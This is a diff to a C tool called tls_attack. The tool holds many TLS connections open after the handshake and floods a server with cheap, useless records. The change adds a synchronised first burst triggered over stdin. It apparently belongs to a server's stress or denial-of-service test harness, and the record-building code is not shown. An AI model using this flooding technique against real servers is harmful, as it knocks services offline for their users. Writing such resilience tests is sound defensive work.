@@ -1,6 +1,8 @@
-/* tls_attack HOST PORT KIND CONNECTIONS: that many connections at a time, none of which ever logs
- * in; each does the handshake, sends what costs and moves nothing as fast as it is taken, and comes
- * again when it is closed. Until stdin ends: then "closed=N sent=N" (connections, records). */
+/* tls_attack HOST PORT KIND CONNECTIONS BYTES: that many connections at a time, none of which ever
+ * logs in.  Each does the handshake and makes BYTES of records that cost and move nothing.  Then
+ * "ready", and a line on stdin lets all of them send at once: what is slow to make must not slow
+ * the first flood down.  Who has sent it goes on with more, as fast as it is made and taken; who
+ * is closed comes again.  Until stdin ends: then "closed=N sent=N" (connections, records). */
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -16,7 +18,7 @@
 
 #include "raw_tls.h"
 
-enum { CHUNK_BYTES = 2048, CONNECTIONS_MAX = 256, PATIENCE_S = 5 };
+enum { CHUNK_BYTES = 2048, BYTES_MAX = 1 << 20, CONNECTIONS_MAX = 256, PATIENCE_S = 5 };
 
 struct attacker {
 	int fd; /* -1: not connected */
@@ -119,18 +121,22 @@ static void come(struct attacker *a)
 	(void)fcntl(a->fd, F_SETFL, O_NONBLOCK);
 }
 
+static void make(struct attacker *a, size_t bytes)
+{
+	buf_clear(&a->out);
+	a->sent = 0;
+	while (a->out.len < bytes) {
+		put(a);
+		records++;
+	}
+}
+
 static void go_on(struct attacker *a)
 {
 	ssize_t n;
 
-	if (a->sent == a->out.len) {
-		buf_clear(&a->out);
-		a->sent = 0;
-		while (a->out.len < CHUNK_BYTES) {
-			put(a);
-			records++;
-		}
-	}
+	if (a->sent == a->out.len)
+		make(a, CHUNK_BYTES);
 	n = send(a->fd, a->out.data + a->sent, a->out.len - a->sent, MSG_NOSIGNAL);
 	if (n > 0) {
 		a->sent += (size_t)n;
@@ -138,6 +144,22 @@ static void go_on(struct attacker *a)
 		closed++;
 		drop(a);
 	}
+}
+
+/* False: stdin has ended. */
+static bool get_ready(struct attacker *all, int count, size_t bytes)
+{
+	char start;
+
+	for (int i = 0; i < count; i++)
+		come(&all[i]);
+	for (int i = 0; i < count; i++) {
+		if (all[i].fd >= 0)
+			make(&all[i], bytes);
+	}
+	puts("ready");
+	(void)fflush(stdout);
+	return read(STDIN_FILENO, &start, 1) == 1;
 }
 
 static void run(struct attacker *all, int count)
@@ -162,9 +184,10 @@ static void run(struct attacker *all, int count)
 int main(int argc, char **argv)
 {
 	static struct attacker all[CONNECTIONS_MAX];
-	int count = argc == 5 ? atoi(argv[4]) : 0;
+	int count = argc == 6 ? atoi(argv[4]) : 0;
+	int bytes = argc == 6 ? atoi(argv[5]) : 0;
 
-	if (count < 1 || count > CONNECTIONS_MAX)
+	if (count < 1 || count > CONNECTIONS_MAX || bytes < 1 || bytes > BYTES_MAX)
 		abort();
 	(void)signal(SIGPIPE, SIG_IGN);
 	server.sin_family = AF_INET;
@@ -178,7 +201,8 @@ int main(int argc, char **argv)
 	find_kind(argv[3]);
 	for (int i = 0; i < count; i++)
 		all[i].fd = -1;
-	run(all, count);
+	if (get_ready(all, count, (size_t)bytes))
+		run(all, count);
 	for (int i = 0; i < count; i++)
 		drop(&all[i]);
 	SSL_CTX_free(tls);
